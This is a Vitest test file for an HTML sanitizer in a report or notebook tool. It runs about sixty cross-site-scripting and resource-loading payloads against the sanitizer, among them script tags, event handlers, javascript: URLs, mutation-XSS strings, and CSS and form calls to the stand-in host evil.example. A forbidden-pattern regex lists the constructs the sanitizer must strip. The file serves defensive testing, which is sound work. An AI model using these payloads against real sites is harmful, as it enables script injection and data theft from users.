import { JSDOM } from "jsdom";
import { expect, test } from "vitest";
import { sanitizeOutput } from "../../../cells/report/sanitize-output.ts";

const { document } = new JSDOM().window;
const clean = (html: string): string => sanitizeOutput(html, document);

/** What must not be anywhere in what comes out. */
const forbidden =
  /<script|<iframe|<object|<embed|<form|<link|<meta|<base|<foreignobject|<animate|<set|<video|<audio|<template|<dialog|<button|\son\w+\s*=|javascript:|vbscript:|data:text|evil\.example|srcset=|action=|popover|expression\(|@import|position:\s*fixed|xml:base/i;

test.each([
  `<script>fetch("https://evil.example")</script>`,
  `<svg><script>alert(1)</script></svg>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://evil.example/a.png">`,
  `<img src="//evil.example/a.png" srcset="https://evil.example/b.png 2x">`,
  `<img src="data:text/html,<script>alert(1)</script>">`,
  `<svg onload=alert(1)></svg>`,
  `<body onload=alert(1)><p>hello</p>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href=" java\tscript:alert(1)">x</a>`,
  `<a href="&#106;avascript:alert(1)">x</a>`,
  `<a href="vbscript:x">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<math><mi href="javascript:alert(1)">x</mi></math>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.example"></object><embed src="https://evil.example">`,
  `<form action="https://evil.example"><input name=a><button formaction="https://evil.example">go</button></form>`,
  `<input type="image" src="https://evil.example/x.png">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<div style="background: url(https://evil.example/x)">x</div>`,
  `<div style="background: u\\72l(https://evil.example/x)">x</div>`,
  `<div style="background-image: image-set('https://evil.example/x' 1x)">x</div>`,
  `<div style="color: red; list-style: url('//evil.example/x')">x</div>`,
  `<div style="width: expression(alert(1))">x</div>`,
  `<div style="position: fixed; inset: 0">over all</div>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>p { background: url("https://evil.example/x") }</style>`,
  `<style>@font-face { font-family: x; src: url(https://evil.example/x) }</style>`,
  `<style>p { position: fixed }</style>`,
  `<svg><style>p { background: url(https://evil.example/x) }</style></svg>`,
  `<svg><use href="https://evil.example/x.svg#a"></use></svg>`,
  `<svg><use xlink:href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x"></use></svg>`,
  `<svg><image href="https://evil.example/x.png"></image></svg>`,
  `<svg><feImage href="https://evil.example/x.png"></feImage></svg>`,
  `<svg><rect fill="url(https://evil.example/x#a)"></rect></svg>`,
  `<svg><rect style="fill: url(https://evil.example/x#a)"></rect></svg>`,
  `<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg>`,
  `<svg><set attributeName="onload" to="alert(1)"></set></svg>`,
  `<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>`,
  `<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay></video>`,
  `<picture><source srcset="https://evil.example/x.png"><img alt="x"></picture>`,
  `<template><script>alert(1)</script></template>`,
  `<dialog open>over all</dialog>`,
  `<button popovertarget="x">open</button><div popover id="x">over all</div>`,
  `<a href="https://tierbook.example" ping="https://evil.example">x</a>`,
  `<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>`,
  `<blockquote cite="https://evil.example">x</blockquote>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  `<div onclick=alert(1) onmouseover=alert(1)>x</div>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<x-element onfocus=alert(1) tabindex=1 autofocus>x</x-element>`,
])("nothing runs, loads or leaves its place in %s", (attack) => {
  for (const html of [attack, `<div><p>before</p>${attack}</div>`]) {
    const result = clean(html);
    expect(result).not.toMatch(forbidden);
    // what the parser makes of it is the same again, so that no second parse brings anything back
    expect(clean(result)).toBe(result);
    const { body } = new JSDOM(`<!doctype html><body>${result}</body>`).window.document;
    expect(body.querySelector("script, iframe, [onerror], [onload], form")).toBe(null);
  }
});

test.each([
  `<h2 id="a-heading">A heading</h2><p>Text with <em>emphasis</em>, <a href="https://tierbook.example/x">a link</a>.</p>`,
  `<table><thead><tr><th scope="col">x</th></tr></thead><tbody><tr><td class="right">1</td></tr></tbody></table>`,
  `<img alt="dot" src="data:image/png;base64,iVBORw0KGgo=">`,
  `<svg viewBox="0 0 10 10" class="plot-d6a7b5" fill="currentColor"><defs><clipPath id="clip-1"><rect width="5" height="5"></rect></clipPath></defs><g clip-path="url(#clip-1)"><path d="M0,0L5,5"></path></g><text x="1" dy="0.3em" text-anchor="end">1</text></svg>`,
  `<svg><image href="data:image/png;base64,iVBORw0KGgo="></image><use href="#a"></use></svg>`,
  `<math display="block"><mrow><mi>x</mi><mo>=</mo><mfrac><mn>1</mn><mn>2</mn></mfrac></mrow></math>`,
  `<div style="color: red;width: calc(100% - 3px);background: url(data:image/png;base64,iVBORw0KGgo=)">x</div>`,
  `<section class="tb-card" data-status="pass" role="group" aria-label="Small run"><dl class="tb-facts"><div><dt>a</dt><dd>b</dd></div></dl></section>`,
  `<details open=""><summary>More</summary>text</details>`,
])("what a person reads stays as it is: %s", (html) => {
  expect(clean(html).replace(/;(?=["])|\s(?=;)/g, "")).toBe(html);
});

test("a style sheet stays, and reaches nothing outside the outputs", () => {
  const plot = `<svg class="plot"><style>:where(.plot) { display: block; } @media print { .plot { color: red } }</style></svg>`;
  expect(clean(plot)).toContain("<style>:where(.tb-output){:where(.plot) { display: block; }");
  for (const css of [
    `} .notice { display: none } p {`,
    `.cell:has(&) .notice { display: none }`,
    `p { color: "} .notice { display: none } p { x: "; }`,
    `@scope (.cell) { .notice { display: none } }`,
    `@layer x { .notice { display: none } }`,
    `p { color: red } /* } .notice { display: none }`,
    `p { content: "\\"} .notice { display: none }`,
  ]) {
    const html = clean(`<p>x</p><style>${css}</style>`);
    expect(html).not.toMatch(/:has\(|@scope|@layer/);
    expect(unnested(html)).toBe("");
  }
});

/** What stands in a confined style outside its nest. */
function unnested(html: string): string {
  const css = (/<style>(.*)<\/style>/s.exec(html)?.[1] ?? "").replace(/"[^"]*"/g, "");
  let depth = 0;
  let outside = "";
  for (const character of css) {
    if (character === "}") depth--;
    if (depth === 0 && character !== "}") outside += character;
    if (character === "{") depth++;
  }
  return outside.replace(":where(.tb-output){", "");
}

test("a formula of KaTeX keeps its MathML alone", () => {
  const html = clean(
    `<span class="katex"><span class="katex-mathml"><math><semantics><mrow><mi>x</mi></mrow><annotation encoding="application/x-tex">x</annotation></semantics></math></span><span class="katex-html" aria-hidden="true"><span class="mord">x</span></span></span>`,
  );
  expect(html.match(/x</g)).toHaveLength(1);
  expect(html).toContain("<math><mrow><mi>x</mi></mrow></math>");
});

test("inputs show what they were and cannot be used, and a card's buttons are gone", () => {
  const html = clean(
    `<form class="inputs-3a86ea"><label>n</label><input type="range" value="3"></form><section class="tb-card"><div class="tb-card-actions"><button>Run</button></div></section>`,
  );
  expect(html).toContain(`<div class="inputs-3a86ea"><label>n</label><input`);
  expect(html).toContain(`disabled=""`);
  expect(html).not.toContain("Run");
});

test("a workbook takes no place of the report's own", () => {
  expect(clean(`<p id="tb-cell-3">x</p><a name="TB-provenance">y</a>`)).toBe(`<p>x</p><a>y</a>`);
});

test("where Trusted Types are enforced, the page's policy makes the HTML that is read", () => {
  const read: string[] = [];
  const policy = {
    createHTML: (html: string) => (read.push(html), html),
    createScriptURL: (url: string) => url,
  };
  expect(sanitizeOutput("<p>x</p>", document, policy)).toBe("<p>x</p>");
  expect(read.some((html) => html.includes("<p>x</p>"))).toBe(true);
});
